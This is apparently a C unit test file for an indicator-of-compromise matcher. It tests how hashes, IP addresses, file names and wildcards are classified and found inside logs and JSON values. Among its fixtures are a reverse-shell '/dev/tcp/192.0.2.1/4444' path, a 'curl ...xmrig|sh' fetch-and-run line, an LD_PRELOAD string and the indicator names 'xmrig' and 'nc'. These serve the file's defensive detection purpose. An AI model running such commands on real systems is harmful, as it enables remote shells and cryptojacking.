/* Indicators: what a word is taken for, and in which values it is. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <string.h>

#include "analyze/ioc.h"

#define DIGEST "55b89ab22bee4792a210f493a53fb066accd5d30b69837c28d98be5ff863efcf"
#define UPPER "55B89AB22BEE4792A210F493A53FB066ACCD5D30B69837C28D98BE5FF863EFCF"

static bool is_ours(const char *word, void *arg)
{
	(void)arg;
	return strcmp(word, "persist.cron-changed") == 0;
}
static const struct kan_ioc_rules ours = {is_ours, NULL};

static struct kan_iocs one(const char *word)
{
	struct kan_iocs l = {0};
	struct kan_err err = {0};
	cr_assert_eq(kan_iocs_add(&l, kan_bytes_of(word), &ours, &err), 0, "%s", err.text);
	cr_assert_eq(l.n, 1);
	return l;
}

static enum kan_ioc_kind kind_of(const char *word)
{
	struct kan_iocs l = one(word);
	enum kan_ioc_kind kind = l.v[0].kind;
	kan_iocs_free(&l);
	return kind;
}

/* In a value, and then its sieve lets the raw form of that value pass. */
static bool beside(const char *word, struct kan_bytes v, const char *span, unsigned port)
{
	struct kan_iocs l = one(word);
	struct kan_bytes found = {NULL, 0};
	struct kan_ioc_sieve *s = kan_ioc_sieve_new(&l);
	bool is = kan_ioc_in(&found, &l.v[0], v, port);
	if (is)
		cr_assert(kan_ioc_sieve_may(s, v), "%s", word);
	if (is && span)
		cr_assert(kan_bytes_eq(found, kan_bytes_of(span)), "%s: %.*s", word, (int)found.n,
			  (const char *)found.p);
	kan_ioc_sieve_free(s);
	kan_iocs_free(&l);
	return is;
}

static bool in(const char *word, const char *v)
{
	return beside(word, kan_bytes_of(v), NULL, 0);
}

Test(analyze_ioc, the_kind_is_what_the_word_looks_like)
{
	cr_assert_eq(kind_of(DIGEST), KAN_IOC_DIGEST);
	cr_assert_eq(kind_of(UPPER), KAN_IOC_DIGEST);
	cr_assert_eq(kind_of("sha256:" DIGEST), KAN_IOC_DIGEST);
	static const char *const addresses[] = {"192.0.2.1",      "192.0.2.0/24", "192.0.2.1:443",
						"2001:db8::1",    "[::1]:80",     "2001:db8::/32",
						"::ffff:1.2.3.4", "::1"};
	for (size_t i = 0; i < sizeof addresses / sizeof *addresses; i++)
		cr_assert_eq(kind_of(addresses[i]), KAN_IOC_ADDRESS_KIND, "%s", addresses[i]);
	static const char *const names[] = {
		"xmrig",        "/tmp/x",   "1.2.3",     "192.0.2.256", "192.0.2.1:0", "evil.sh",
		"192.0.2.0/33", "shop:2.3", "persist.x", "[kworker/0]", "g::b",        "deadbeef"};
	for (size_t i = 0; i < sizeof names / sizeof *names; i++)
		cr_assert_eq(kind_of(names[i]), KAN_IOC_NAME, "%s", names[i]);
	cr_assert_eq(kind_of("persist.cron-changed"), KAN_IOC_RULE);
}

Test(analyze_ioc, a_word_before_it_decides_its_kind)
{
	cr_assert_eq(kind_of("name:" DIGEST), KAN_IOC_NAME);
	cr_assert_eq(kind_of("name:192.0.2.1"), KAN_IOC_NAME);
	cr_assert_eq(kind_of("rule:a.b"), KAN_IOC_RULE);
	cr_assert_eq(kind_of("digest:sha256:" DIGEST), KAN_IOC_DIGEST);
	cr_assert_eq(kind_of("address:::1"), KAN_IOC_ADDRESS_KIND);
}

Test(analyze_ioc, what_cannot_be_one_is_refused_with_its_line)
{
	static const char *const wrong[] = {"",
					    "name:",
					    "digest:55b89a",
					    "address:host",
					    "address:1.2.3.4:70000",
					    "rule:A B",
					    "*",
					    "name:*?*",
					    "sha256:" DIGEST "0",
					    "d41d8cd98f00b204e9800998ecf8427e",
					    "da39a3ee5e6b4b0d3255bfef95601890afd80709"};
	for (size_t i = 0; i < sizeof wrong / sizeof *wrong; i++) {
		struct kan_iocs l = {0};
		struct kan_err err = {0};
		cr_assert_eq(kan_iocs_add(&l, kan_bytes_of(wrong[i]), &ours, &err), -1, "%s",
			     wrong[i]);
		cr_assert_eq(err.code, KAN_EUSAGE);
		cr_assert_eq(l.n, 0);
		kan_iocs_free(&l);
	}
	struct kan_iocs l = {0};
	struct kan_err err = {0};
	cr_assert_eq(kan_iocs_lines(&l, KAN_LIT("# ours\nxmrig\n\ndigest:1\n"), &ours, &err), -1);
	cr_assert(strstr(err.text, "line 4"), "%s", err.text);
	kan_iocs_free(&l);
}

Test(analyze_ioc, a_file_has_one_a_line_and_none_twice)
{
	struct kan_iocs l = {0};
	struct kan_err err = {0};
	cr_assert_eq(
		kan_iocs_lines(
			&l,
			KAN_LIT("\xef\xbb\xbf# list\r\n  xmrig \r\n\nxmrig\n192.0.2.1\n" DIGEST),
			&ours, &err),
		0, "%s", err.text);
	cr_assert_eq(l.n, 3);
	cr_assert_str_eq(l.v[0].word, "xmrig");
	cr_assert(l.rows && !l.rules);
	kan_iocs_free(&l);
}

Test(analyze_ioc, a_digest_is_whole)
{
	cr_assert(in(DIGEST, DIGEST));
	cr_assert(in(DIGEST, UPPER));
	cr_assert(in("sha256:" UPPER, "shop@sha256:" DIGEST));
	cr_assert_not(in(DIGEST, DIGEST "0"));
	cr_assert_not(in(DIGEST, "0" DIGEST));
}

Test(analyze_ioc, an_address_is_found_in_any_spelling)
{
	cr_assert(in("192.0.2.1", "http://192.0.2.1/x"));
	cr_assert(in("192.0.2.1", "/dev/tcp/192.0.2.1/4444"));
	cr_assert(in("192.0.2.1", "::ffff:192.0.2.1"));
	cr_assert(in("192.0.2.1", "::ffff:c000:201"));
	cr_assert(in("192.0.2.1", "seen from 192.0.2.1."));
	cr_assert(in("192.0.2.1", "a:192.0.2.1:80"));
	cr_assert(in("::ffff:192.0.2.1", "192.0.2.1"));
	cr_assert(in("2001:db8::1", "2001:0DB8:0:0:0:0:0:1"));
	cr_assert(in("2001:0db8:0::1", "[2001:db8::1]:443"));
	cr_assert(in("fe80::1", "fe80::1%eth0"));
	cr_assert_not(in("192.0.2.1", "192.0.2.10"));
	cr_assert_not(in("192.0.2.1", "1192.0.2.1"));
	cr_assert_not(in("192.0.2.1", "v192.0.2.1"));
	cr_assert_not(in("192.0.2.1", "192.0.2.1.5"));
	cr_assert_not(in("2001:db8::1", "2001:db8::1:2"));
	cr_assert_not(in("::1", "12:30:01"));
}

Test(analyze_ioc, a_network_holds_its_addresses)
{
	cr_assert(in("192.0.2.0/24", "192.0.2.77"));
	cr_assert(in("192.0.2.99/24", "192.0.2.77"));
	cr_assert(in("10.0.0.0/9", "10.127.1.1"));
	cr_assert_not(in("10.0.0.0/9", "10.128.1.1"));
	cr_assert(in("0.0.0.0/0", "8.8.8.8"));
	cr_assert_not(in("0.0.0.0/0", "2001:db8::1"));
	cr_assert(in("2001:db8::/33", "2001:db8:7fff::1"));
	cr_assert_not(in("2001:db8::/33", "2001:db8:8000::1"));
}

Test(analyze_ioc, a_port_is_behind_the_address_or_beside_it)
{
	cr_assert(in("192.0.2.1:4444", "192.0.2.1:4444"));
	cr_assert(in("192.0.2.1:4444", "/dev/tcp/192.0.2.1/4444"));
	cr_assert(in("[2001:db8::1]:443", "[2001:db8::1]:443"));
	cr_assert(beside("192.0.2.1:4444", KAN_LIT("192.0.2.1"), "192.0.2.1", 4444));
	cr_assert_not(beside("192.0.2.1:4444", KAN_LIT("192.0.2.1"), NULL, 444));
	cr_assert_not(in("192.0.2.1:4444", "192.0.2.1:44444"));
	cr_assert_not(in("192.0.2.1:4444", "192.0.2.1"));
}

Test(analyze_ioc, a_name_begins_and_ends_where_a_name_does)
{
	cr_assert(beside("xmrig", KAN_LIT("/tmp/.x/xmrig"), "xmrig", 0));
	cr_assert(in("xmrig", "./xmrig"));
	cr_assert(in("xmrig", "sh -c 'curl http://h/xmrig|sh'"));
	cr_assert_not(in("xmrig", "xmrig-6.0"));
	cr_assert_not(in("xmrig", "/tmp/xmrigs"));
	cr_assert_not(in("sh", "/tmp/evil.sh"));
	cr_assert(in("/tmp/x", "/tmp/x"));
	cr_assert(in("/tmp/x", "cp /tmp/x /y"));
	cr_assert(in("/tmp/x", "/tmp/x/below"));
	cr_assert_not(in("/tmp/x", "/var/tmp/x"));
	cr_assert_not(in("/tmp/x", "/tmp/xy"));
	cr_assert(in("tmp/x", "/var/tmp/x"));
	cr_assert(in("shop", "shop:2.3"));
	cr_assert(in("shop:2.3", "docker.io/shop:2.3@sha256:0"));
	cr_assert(in("[kworker/0:1]", "[kworker/0:1]"));
	cr_assert_not(in("Xmrig", "xmrig"));
}

Test(analyze_ioc, a_star_is_a_part_of_one_name)
{
	cr_assert(beside("xm*", KAN_LIT("/tmp/xmrig-6.0/x"), "xmrig-6.0", 0));
	cr_assert(beside("*mri*", KAN_LIT("/tmp/xmrig"), "xmrig", 0));
	cr_assert(in("/tmp/*.so", "LD_PRELOAD=/tmp/a.b.so"));
	cr_assert_not(in("/tmp/*.so", "/tmp/a/b.so"));
	cr_assert(in("x?rig", "xmrig"));
	cr_assert_not(in("x?rig", "xrig"));
	cr_assert_not(in("x*y", "x y"));
	cr_assert(in("a*a*a*a*a*b", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab"));
	cr_assert_not(in("a*a*a*a*a*b", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaac"));
	cr_assert(in("a\\*b", "a*b"));
	cr_assert_not(in("a\\*b", "axb"));
}

Test(analyze_ioc, a_name_is_written_as_a_terminal_was_shown_it)
{
	cr_assert(beside("a\\x1b[2J", KAN_LIT("/tmp/a\x1b[2J"), NULL, 0));
	cr_assert(beside("\\xff\\xfe", KAN_LIT("/\xff\xfe"), NULL, 0));
	cr_assert(beside("a\\x00b", KAN_LIT("a\0b"), NULL, 0));
	cr_assert(in("a\\\\b", "a\\b"));
}

static bool passes(const char *word, const char *raw)
{
	struct kan_iocs l = one(word);
	struct kan_ioc_sieve *s = kan_ioc_sieve_new(&l);
	bool may = kan_ioc_sieve_may(s, kan_bytes_of(raw));
	kan_ioc_sieve_free(s);
	kan_iocs_free(&l);
	return may;
}

Test(analyze_ioc, the_sieve_holds_back_nothing_that_an_escape_or_base64_hides)
{
	cr_assert(passes(DIGEST, "{\"x\":\"\\u0035"
				 "5b89\"}"));
	cr_assert(passes("192.0.2.1", "{\"log\":\"\\n192.0.2.1\"}"));
	cr_assert(passes("192.0.2.1", "{\"x\":\"192\\u002e0.2.1\"}"));
	cr_assert(passes("/tmp/x", "{\"x\":\"\\/tmp\\/x\"}"));
	cr_assert(passes("a\"b", "{\"x\":\"a\\\"b\"}"));
	cr_assert(passes("\xc3\xa9vil", "{\"x\":\"\\u00e9vil\"}"));
	cr_assert(passes("xmrig", "{\"x\":\"y\",\"x_b64\":\"eG1yaWf/\"}"));
	cr_assert_not(passes("xmrig", "{\"x\":\"a \\u003e b\\n\"}"));
	cr_assert_not(passes(DIGEST, "{\"x\":\""
				     "a\\\\b\"}"));
	cr_assert_not(passes("192.0.2.1", "{\"x\":\"192.0.2.2\"}"));
}

Test(analyze_ioc, many_indicators_are_sieved_as_one_is)
{
	struct kan_iocs l = {0};
	char word[64];
	for (unsigned i = 0; i < 500; i++) {
		(void)snprintf(word, sizeof word, "name-%u-x", i);
		cr_assert_eq(kan_iocs_add(&l, kan_bytes_of(word), NULL, NULL), 0);
	}
	cr_assert_eq(kan_iocs_add(&l, KAN_LIT("nc"), NULL, NULL), 0);
	struct kan_ioc_sieve *s = kan_ioc_sieve_new(&l);
	cr_assert(kan_ioc_sieve_may(s, KAN_LIT("/tmp/name-499-x")));
	cr_assert(kan_ioc_sieve_may(s, KAN_LIT("nc")));
	cr_assert_not(kan_ioc_sieve_may(s, KAN_LIT("/tmp/name-500-x")));
	kan_ioc_sieve_free(s);
	kan_iocs_free(&l);
}
